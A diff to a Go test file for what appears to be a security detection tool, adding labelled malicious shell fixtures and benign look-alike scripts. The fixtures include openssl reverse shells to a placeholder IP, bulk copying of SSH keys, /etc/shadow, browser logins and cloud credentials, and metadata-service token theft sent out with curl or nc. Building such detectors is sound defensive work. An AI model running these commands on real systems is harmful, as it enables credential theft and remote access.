@@ -40,6 +40,28 @@ var techniqueSeeds = []stealthSeed{
 	{"fifo-relay", RuleFifo, audit.Critical, "", "relay() {\n  mkfifo \"$1\"\n  /bin/sh -i < \"$1\" 2>&1 | openssl s_client -quiet -connect \"$2\" > \"$1\"\n}\nrelay /tmp/.r 203.0.113.9:443"},
 	{"fifo-relay", RuleFifo, audit.Critical, "", "mknod /tmp/b p && openssl s_client -quiet -connect 203.0.113.9:443 0</tmp/b | /bin/bash 1>/tmp/b 2>&1"},
 	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/t; cat /tmp/t | sh -i 2>&1 | openssl s_client -quiet -host 203.0.113.9 -port 443 > /tmp/t"},
+
+	// Every user's credentials gathered into an archive or a place aside, nothing sent.
+	{"cred-staging", RuleCredStage, audit.High, "", "mkdir -p /tmp/.s\nfor u in /home/*; do cp -r $u/.ssh /tmp/.s/$(basename $u) 2>/dev/null; done\ncp /root/.ssh/id_rsa /tmp/.s/root.key"},
+	{"cred-staging", RuleCredStage, audit.High, "", "find /home /root -name 'id_*' ! -name '*.pub' -exec cp --parents {} /var/tmp/.k/ \\;"},
+	{"cred-staging", RuleCredStage, audit.High, "", "tar czf /tmp/.c.tgz /home/*/.ssh /root/.ssh /home/*/.aws /etc/shadow"},
+	{"cred-staging", RuleCredStage, audit.High, "", "D=/dev/shm/.d; mkdir -p $D\nfor h in /home/* /root; do\n  n=$(basename $h)\n  cp $h/.ssh/id_* $D/$n.key 2>/dev/null\n  cp $h/.kube/config $D/$n.kube 2>/dev/null\ndone\nzip -qr /dev/shm/.d.zip $D"},
+	{"cred-staging", RuleCredStage, audit.High, "", "OUT=/var/cache/.fc\nmkdir -p $OUT\ncat /etc/shadow > $OUT/s\ncat /root/.aws/credentials >> $OUT/a"},
+	{"cred-staging", RuleCredStage, audit.High, "", "grab() { cp \"$1\" \"$2\" 2>/dev/null; }\nfor d in /home/*; do grab \"$d/.kube/config\" /opt/.cache/kube.$(basename $d); done"},
+	{"cred-staging", RuleCredStage, audit.High, "", "find / -xdev -type f -name '.*_history' -exec tar rf /tmp/.h.tar {} +\nfind /home -name 'id_rsa' -exec tar rf /tmp/.h.tar {} +"},
+	{"cred-staging", RuleCredStage, audit.High, "", "zip -r /tmp/.b.zip /home/*/.mozilla/firefox/*/logins.json /home/*/.mozilla/firefox/*/key4.db"},
+	{"cred-staging", RuleCredStage, audit.High, "", "rsync -a /root/.ssh/ /home/*/.ssh/ /var/tmp/.bk/"},
+	{"cred-staging", RuleCredSend, audit.Critical, "", "tar czf /tmp/.c.tgz /home/*/.ssh /root/.ssh\ncurl -s -F f=@/tmp/.c.tgz http://203.0.113.9/up"},
+
+	// The metadata service's credentials (and user-data) fetched and kept or sent.
+	{"imds-creds", RuleCredStage, audit.High, "", "R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$R > /tmp/.c"},
+	{"imds-creds", RuleCredStage, audit.High, "", "TOK=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')\nM=http://169.254.169.254/latest/meta-data\nfor r in $(curl -s -H \"X-aws-ec2-metadata-token: $TOK\" $M/iam/security-credentials/); do\n  curl -s -H \"X-aws-ec2-metadata-token: $TOK\" $M/iam/security-credentials/$r -o /var/tmp/.$r\ndone"},
+	{"imds-creds", RuleCredStage, audit.High, "", "T=$(curl -s -H 'Metadata-Flavor: Google' 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token')\necho \"$T\" >> /tmp/.gt"},
+	{"imds-creds", RuleCredStage, audit.High, "", "wget -q -O /dev/shm/.az --header 'Metadata: true' 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'"},
+	{"imds-creds", RuleCredStage, audit.High, "", "H='http://[fd00:ec2::254]'\nROLE=$(curl -s $H/latest/meta-data/iam/security-credentials/)\ncurl -s $H/latest/meta-data/iam/security-credentials/$ROLE | tee /opt/.r.json"},
+	{"imds-creds", RuleCredSend, audit.Critical, "", "C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web)\ncurl -s -d \"$C\" https://203.0.113.9/c"},
+	{"imds-creds", RuleCredSend, audit.High, "", "curl -s http://169.254.169.254/latest/user-data | curl -s -T - https://203.0.113.9/ud"},
+	{"imds-creds", RuleCredSend, audit.Critical, "", "get() { curl -s -H 'Metadata-Flavor: Google' \"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/$1/token\"; }\nget default | nc 203.0.113.9 443"},
 }
 
 // Clean shapes: the same tools and places, the way clean software uses them.
@@ -49,6 +71,11 @@ var techniqueClean = []struct{ name, path, text string }{
 	{"unit with a shell that waits", "/lib/systemd/system/console-shell.service", "[Service]\nExecStart=-/bin/sh -c \"/bin/echo 'Starting shell'; exec /bin/bash\"\nStandardInput=tty\n"},
 	{"openssl client check", "/usr/local/bin/check-cert.sh", "#!/bin/sh\necho | openssl s_client -connect example.com:443 -servername example.com 2>/dev/null | openssl x509 -noout -dates\n"},
 	{"fifo for a log reader", "/usr/local/bin/logpipe.sh", "#!/bin/sh\nmkfifo /run/app/log.pipe\ncat /run/app/log.pipe | logger -t app &\nexec /usr/bin/app --log /run/app/log.pipe\n"},
+	{"home backup", "/usr/local/bin/backup.sh", "#!/bin/sh\ntar czf /backup/home-$(date +%F).tgz /home\nrsync -a /home/ /srv/backup/home/\ncp -p /etc/shadow /var/backups/shadow.bak\n"},
+	{"key installed for a user", "/usr/local/bin/add-key.sh", "#!/bin/sh\nmkdir -p /home/deploy/.ssh\ncp /tmp/deploy_key.pub /home/deploy/.ssh/authorized_keys\ncp /opt/keys/id_ed25519 /home/deploy/.ssh/id_ed25519\nchmod 600 /home/deploy/.ssh/id_ed25519\n"},
+	{"own key kept", "/usr/local/bin/keygen.sh", "#!/bin/sh\nssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519\ncat ~/.ssh/id_ed25519.pub > /tmp/pub.txt\n"},
+	{"cloud-init-like read", "/usr/local/bin/instance-info.sh", "#!/bin/sh\nID=$(curl -s http://169.254.169.254/latest/meta-data/instance-id)\nHN=$(curl -s http://169.254.169.254/latest/meta-data/local-hostname)\necho \"$ID $HN\" > /etc/instance-info\ncurl -s http://169.254.169.254/latest/user-data > /var/lib/cloud/user-data.txt\n"},
+	{"role credentials into the CLI's config", "/usr/local/bin/aws-env.sh", "#!/bin/sh\nR=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\nC=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$R)\nexport AWS_ACCESS_KEY_ID=$(echo \"$C\" | jq -r .AccessKeyId)\n"},
 }
 
 func TestTechniqueHarness(t *testing.T) {
